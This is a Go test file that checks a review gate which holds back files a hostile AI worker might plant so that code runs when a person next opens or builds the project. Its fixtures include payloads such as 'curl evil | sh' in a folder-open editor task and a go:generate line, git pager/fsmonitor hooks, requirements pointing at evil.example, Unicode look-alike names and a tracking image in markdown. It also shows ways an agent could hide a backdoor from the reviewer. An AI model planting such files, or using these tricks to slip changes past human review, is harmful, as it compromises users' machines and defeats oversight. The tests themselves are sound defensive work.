package proposal

import (
	"context"
	"errors"
	"os"
	"path/filepath"

	"slices"
	"strings"
	"testing"

	"github.com/agentcanvas/agentcanvas/sidecar/mdsafe"
	"github.com/agentcanvas/agentcanvas/sidecar/safepath"
)

// Attacks on the review by a hostile worker, written from what docs/proposals.md promises
// (Control files, Names that deceive, Tests in the review): each case is a file that would
// run code, or change what runs, the next time the person works in the folder.

// Files that run without the person naming them — on opening the folder in an editor, on
// starting Python or pytest, a version manager entering the folder, a container build, an
// install — are held; so are names that a case-insensitive or Windows file system takes for
// a held one, a flow under any extension, and what a content rule finds (a requirement or a
// Go module from outside the registry, a go:generate line).
func TestAttackFilesThatRunCodeAreHeld(t *testing.T) {
	file := func(s string) version { return version{exists: true, data: []byte(s), known: true} }
	none := version{known: true}
	cr := controlRules{flowFile: "flows/f.yaml", uses: []FlowUse{
		{Path: "agents/lead.sh", Use: "agent lead's runtime.command"},
		{Path: "docs/rules", Use: "commonRules.ruleChainRefs"},
	}}
	const gomod = "module x\n\ngo 1.22\n\nrequire (\n\tgolang.org/x/text v0.1.0 // indirect\n)\n"
	for _, c := range []struct {
		path          string
		before, after version
		held          bool
	}{
		// Run when the editor opens the folder, or its linter and formatter extensions start.
		{".eslintrc.js", none, file("require('child_process').execSync('x')"), true},
		{"eslint.config.mjs", none, file("x"), true},
		{".prettierrc.cjs", none, file("x"), true},
		{"jest.config.ts", none, file("x"), true},
		{"web/vitest.config.mts", none, file("x"), true},
		// Python runs these by itself.
		{"conftest.py", none, file("import os"), true},
		{"tests/conftest.py", file("a"), file("b"), true},
		{"src/sitecustomize.py", none, file("x"), true},
		{"lib/evil.pth", none, file("import os; os.system('x')"), true},
		{"pytest.ini", none, file("[pytest]\naddopts = -p evil\n"), true},
		// Which interpreter or compiler runs.
		{".nvmrc", none, file("v99"), true},
		{".python-version", none, file("3.12"), true},
		{"rust-toolchain.toml", none, file("[toolchain]\npath = \"/tmp/evil\"\n"), true},
		{".env.local", none, file("NODE_OPTIONS=--require ./evil.js"), true},
		// Containers, package managers, git.
		{"Dockerfile", none, file("FROM alpine"), true},
		{"docker-compose.yml", none, file("services: {x: {privileged: true}}"), true},
		{"compose.override.yaml", none, file("x"), true},
		{"package.yaml", none, file("scripts: {preinstall: x}"), true},
		{"Pipfile", none, file("x"), true},
		{"go.work", none, file("go 1.22\nuse ../../evil\n"), true},
		{".gitconfig", none, file("[core]\n\tfsmonitor = x\n"), true},
		{"CMakeLists.txt", file("a"), file("b"), true},
		{"pom.xml", file("a"), file("b"), true},
		// Names a file system takes for a held one: Unicode case folding (APFS: "ſ" is "s", the
		// Kelvin sign is "k"), upper-casing (NTFS: "ı" is "I"), trailing dots.
		{".gıthub/workflows/ci.yml", none, file("on: push"), true},
		{".devcontaıner/devcontainer.json", none, file("{}"), true},
		{"Ma\u212aefile", none, file("x"), true},
		{"ju\u017ftfile", none, file("x"), true},
		{"Flows/F.yaml", file("a: 1"), file("a: 2"), true}, // the run's own flow, by another case
		// A flow under an extension that is not YAML's: agentcanvas run takes any.
		{"flows/nightly.txt", none, file("version: 0.2\nagents:\n  - id: x\n    role: worker\ninteractions: []\n"), true},
		// What the run's flow runs or gives its agents as rules.
		{"agents/lead.sh", file("echo ok"), file("echo pwned"), true},
		{"docs/rules/style.md", file("a"), file("b"), true},
		// Content rules.
		{"requirements.txt", file("requests==2.0\n"), file("requests==2.0\ngit+https://evil.example/x.git#egg=x\n"), true},
		{"requirements-dev.txt", none, file("--extra-index-url https://evil.example/simple\npytest\n"), true},
		{"requirements/base.txt", none, file("x @ https://evil.example/x.whl\n"), true},
		{"requirements.txt", none, file("-e ../evil\n"), true},
		{"go.mod", file(gomod), file(gomod + "\nreplace golang.org/x/text => ../../evil\n"), true},
		{"go.mod", file(gomod), file(strings.Replace(gomod, "go 1.22", "go 1.22\ntoolchain go1.99.0", 1)), true},
		{"go.mod", file(gomod), file(gomod + "\ntool example.com/evil\n"), true},
		{"gen.go", file("package x\n"), file("package x\n\n//go:generate sh -c \"curl evil | sh\"\n"), true},
		// Not held: ordinary code, data and registry dependencies.
		{"requirements.txt", file("requests==2.0\n"), file("requests==2.1 ; python_version >= \"3.8\"\nflask[async]>=2,<3 --hash=sha256:0a1b\n# a comment\n"), false},
		{"go.mod", file(gomod), file(strings.Replace(gomod, "v0.1.0", "v0.2.0", 1)), false},
		{"main.go", file("package x\n//go:generate stringer -type=T\n"), file("package x\n//go:generate stringer -type=T\nfunc f() {}\n"), false},
		{"tests/__init__.py", none, file("import os"), false},
		{"src/app.py", file("a"), file("b"), false},
		{".editorconfig", none, file("root = true"), false},
		{"tsconfig.json", none, file(`{"compilerOptions": {}}`), false},
		{"docs/agents.txt", none, file("agents are people who act"), false},
		{"notes/café.md", none, file("x"), false},
		{"src/config.json", none, file(`{"port": 80}`), false},
	} {
		got := cr.classify(c.path, c.before, c.after)
		if (got != "") != c.held {
			t.Errorf("%s: held %q, want held=%v", c.path, got, c.held)
		}
	}
}

// A file added inside a folder that a tool reads as a whole is held for where it is: an
// embedded git repository (its config runs core.pager or core.fsmonitor when a person runs
// git in it, or a shell prompt does), a Python virtual environment (a .pth file runs at every
// start); so is a file reached through a symbolic link at the root named like a held folder
// (.vscode -> editor), and a path written as a Windows short name (VSCODE~1).
func TestAttackFoldersHeldForWhatTheyHold(t *testing.T) {
	ws, paths := prepared(t, map[string]string{
		"README.md":        "F:hi\n",
		".venv/pyvenv.cfg": "F:home = /usr/bin\n",
		".venv/lib/python3.12/site-packages/x.py": "F:x = 1\n",
		"editor/tasks.json":                       "F:{}\n",
		".vscode":                                 "L:editor",
		"tools/keep.txt":                          "F:x\n",
	})
	bare := "[core]\n\tbare = true\n\tpager = \"touch /tmp/pwned; cat\"\n\tfsmonitor = \"touch /tmp/pwned\"\n"
	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{
		"tools/cache/HEAD":                            "ref: refs/heads/main\n",
		"tools/cache/config":                          bare,
		"tools/cache/refs/heads/main.keep":            "x\n",
		".venv/lib/python3.12/site-packages/evil.py":  "import os\n",
		"editor/tasks.json":                           `{"tasks":[{"command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}`,
		"VSCODE~1/settings.json":                      "{}\n",
		"README.md":                                   "hi there\n",
		"tools/notes.txt":                             "not in the repository folder\n",
		".venv/lib/python3.12/site-packages/x.py":     "x = 2\n",
		".venv/lib/python3.12/site-packages/more.pth": "import os\n",
	})
	want := []string{
		".venv/lib/python3.12/site-packages/evil.py", ".venv/lib/python3.12/site-packages/more.pth",
		".venv/lib/python3.12/site-packages/x.py", "VSCODE~1/settings.json", "editor/tasks.json",
		"tools/cache/HEAD", "tools/cache/config", "tools/cache/refs/heads/main.keep",
	}
	before := snapshot(t, ws, true)
	_, err := Apply(context.Background(), ws, ref, Selection{}, ApplyOptions{})
	var he *HeldError
	if !errors.As(err, &he) || !slices.Equal(heldPaths(he.Held), want) {
		t.Fatalf("want held %v, got %v", want, err)
	}
	for _, h := range he.Held {
		switch {
		case strings.HasPrefix(h.Path, "tools/cache/") && !strings.Contains(h.Reason, "git reads as a repository"),
			strings.HasPrefix(h.Path, ".venv/") && !strings.Contains(h.Reason, "virtual environment") && !strings.HasSuffix(h.Path, ".pth"),
			h.Path == "editor/tasks.json" && !strings.Contains(h.Reason, "symbolic link .vscode"),
			h.Path == "VSCODE~1/settings.json" && (h.Kind != HoldName || !strings.Contains(h.Reason, "short name")):
			t.Errorf("%s held because %q", h.Path, h.Reason)
		}
	}
	if d := diffSnapshots(before, snapshot(t, ws, true)); d != "" {
		t.Fatalf("a held apply changed the workspace:\n%s", d)
	}
	if _, err := Apply(context.Background(), ws, ref, Selection{}, ApplyOptions{Confirm: want}); err != nil {
		t.Fatalf("every held file confirmed: %v", err)
	}
}

// The workspace root made into a git repository's folder by the proposal alone is held too.
func TestAttackWorkspaceRootMadeARepository(t *testing.T) {
	ws, paths := prepared(t, map[string]string{"README.md": "F:hi\n"})
	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{
		"HEAD": "ref: refs/heads/main\n", "config": "[core]\n\tpager = evil\n", "objects/info/packs": "\n",
	})
	_, err := Check(context.Background(), ws, ref, Selection{}, ApplyOptions{})
	var he *HeldError
	if !errors.As(err, &he) || !slices.Equal(heldPaths(he.Held), []string{"HEAD", "config", "objects/info/packs"}) {
		t.Fatalf("want HEAD, config and objects held: %v", err)
	}
	if _, err := os.Stat(filepath.Join(ws, "config")); err == nil {
		t.Fatal("a check wrote to the workspace")
	}
}

// A git folder's pointer file (.git holding "gitdir: …", at the root or below) never becomes
// part of a proposal, and a hand-made patch that carries one is refused; so are symbolic
// links that lead out, and a file written through a link in the workspace that leads out.
func TestAttackGitPointersAndLinksOut(t *testing.T) {
	outside := t.TempDir()
	ws, paths := prepared(t, map[string]string{"a.txt": "F:a\n"})
	if err := os.Symlink(outside, filepath.Join(ws, "out")); err != nil { // made after the sandbox
		t.Fatal(err)
	}
	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{
		".git": "gitdir: /tmp/evil\n", "sub/.git": "gitdir: ../../evil\n", "etc": "L:/etc", "up": "L:../../../../../..", "a.txt": "b\n",
	})
	l, err := Load(ws, ref)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(l.Patch), ".git") {
		t.Errorf("a .git pointer is in the patch:\n%s", l.Patch)
	}
	_, err = Check(context.Background(), ws, ref, Selection{}, ApplyOptions{})
	var re *RefusedError
	if !errors.As(err, &re) || !strings.Contains(err.Error(), "etc") || !strings.Contains(err.Error(), "up") {
		t.Fatalf("links that lead out: %v", err)
	}
	for name, patch := range map[string]string{
		"a .git file below": "diff --git a/sub/.git b/sub/.git\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..2e65efe2a145dda7ee51d1741299f848e5bf752e\n--- /dev/null\n+++ b/sub/.git\n@@ -0,0 +1 @@\n+gitdir: /tmp\n",
		"through a link":    "diff --git a/out/x b/out/x\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..2e65efe2a145dda7ee51d1741299f848e5bf752e\n--- /dev/null\n+++ b/out/x\n@@ -0,0 +1 @@\n+a\n",
	} {
		if _, err := ApplyPatch(context.Background(), ws, []byte(patch), Selection{}, ApplyOptions{}); !errors.As(err, &re) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
		t.Errorf("something was written outside the workspace: %v", entries)
	}
}

// A proposal that makes the held link itself (.github -> ci) and writes where it leads holds
// both: the link by its name, the file for where it is read from.
func TestAttackHeldLinkMadeByTheProposal(t *testing.T) {
	ws, paths := prepared(t, map[string]string{"README.md": "F:hi\n"})
	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{".github": "L:ci", "ci/workflows/x.yml": "on: push\n", "README.md": "ho\n"})
	_, err := Check(context.Background(), ws, ref, Selection{}, ApplyOptions{})
	var he *HeldError
	if !errors.As(err, &he) || !slices.Equal(heldPaths(he.Held), []string{".github", "ci/workflows/x.yml"}) {
		t.Fatalf("want .github and ci/workflows/x.yml held: %v", err)
	}
}

// The side-by-side review shows the patch, not work/: a worker that puts its files back
// after the proposal was made (a later turn runs while the person reviews) shows the person
// nothing, while the apply writes what the patch holds; a file it turned into a link shows
// the file the link points at, while the apply writes the link.
func TestAttackSideBySideShowsThePatchNotWork(t *testing.T) {
	ws, paths := prepared(t, map[string]string{"a.py": "F:safe()\n", "b.py": "F:b()\n", "README.md": "F:read me\n"})
	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{"a.py": "safe()\nbackdoor()\n", "b.py": "", "c.py": "L:README.md", "d.py": "new()\n"})
	for name, data := range map[string]string{"a.py": "safe()\n", "b.py": "b()\n", "d.py": "new()\n"} {
		os.WriteFile(filepath.Join(paths.WorkDir, name), []byte(data), 0o644) // the worker's work/ looks harmless again
	}
	os.Remove(filepath.Join(paths.WorkDir, "c.py"))
	os.WriteFile(filepath.Join(paths.WorkDir, "c.py"), []byte("read me\n"), 0o644)

	ps, err := GetPatchSides(ws, ref, safepath.Rules{}, "")
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]InterdiffSide{}
	for _, s := range ps.Sides {
		got[s.Path] = s
	}
	want := map[string]InterdiffSide{
		"a.py": {Path: "a.py", Old: "safe()\n", New: "safe()\nbackdoor()\n", OldExists: true, NewExists: true},
		"b.py": {Path: "b.py", Old: "b()\n", OldExists: true},
		"c.py": {Path: "c.py", New: "README.md", NewExists: true},
		"d.py": {Path: "d.py", New: "new()\n", NewExists: true},
	}
	if len(got) != len(want) {
		t.Errorf("sides of %v, want %v", got, want)
	}
	for name, w := range want {
		if got[name] != w {
			t.Errorf("%s: side by side %+v, want %+v (the patch's)", name, got[name], w)
		}
	}
	if one, err := GetPatchSides(ws, ref, safepath.Rules{}, "c.py"); err != nil || len(one.Sides) != 1 || one.Sides[0] != want["c.py"] {
		t.Errorf("the sides of c.py alone: %+v %v", one, err)
	}
	l, _ := Load(ws, ref)
	if ps.Patch != PatchDigest(l.Patch) {
		t.Errorf("the sides name patch %s, the proposal's is %s", ps.Patch, PatchDigest(l.Patch))
	}
}

// summary.md, which the editor opens in a Markdown preview with the review, shows the
// worker's notes and names as text: no image that calls home, no link whose words lie, no
// comment that hides the table of files below it (mdsafe).
func TestAttackMarkupInTheProposalSummary(t *testing.T) {
	ws, paths := prepared(t, map[string]string{"a.py": "F:a\n"})
	name := "x`<img src=https:⁄⁄evil.example⁄n.png>`|.py"
	writeTree(t, paths.WorkDir, map[string]string{name: "F:x\n"})
	notes := "All good.\n<img src=https://evil.example/t.png>\n[✅ tests pass](https://evil.example)\n<!--\n"
	c, err := Create(context.Background(), CreateOptions{Workspace: ws, RunID: "run1", AgentID: "custom:coder-1", Notes: notes})
	if err != nil {
		t.Fatal(err)
	}
	md, err := os.ReadFile(filepath.Join(c.AgentDir, SummaryFile))
	if err != nil {
		t.Fatal(err)
	}
	// Block and Code are what mdsafe's tests check no renderer reads as markup.
	for _, want := range []string{mdsafe.Block(notes, ""), "| " + mdsafe.Code(name) + " | added |"} {
		if !strings.Contains(string(md), want) {
			t.Errorf("summary.md does not show %q as text:\n%s", want, md)
		}
	}
	if strings.Contains(strings.NewReplacer(mdsafe.Block(notes, ""), "", mdsafe.Code(name), "").Replace(string(md)), "<img") {
		t.Errorf("summary.md shows the worker's markup outside its text block:\n%s", md)
	}
}

// A refusal names the file whose part of the patch changed, even one whose folder's name
// holds " b/" (a name made to be read as another in the "diff --git" line).
func TestAttackPatchPartNamedAsItIs(t *testing.T) {
	for line, want := range map[string]string{
		"diff --git a/x b/y b/x b/y\n":                      "x b/y",
		"diff --git a/my file b/my file\n":                  "my file",
		"diff --git a/a.go b/b.go\n":                        "b.go",
		`diff --git "a/caf\303\251" "b/caf\303\251"` + "\n": "café",
	} {
		if got := partName([]byte(line)); got != want {
			t.Errorf("partName(%q) = %q, want %q", line, got, want)
		}
	}
}
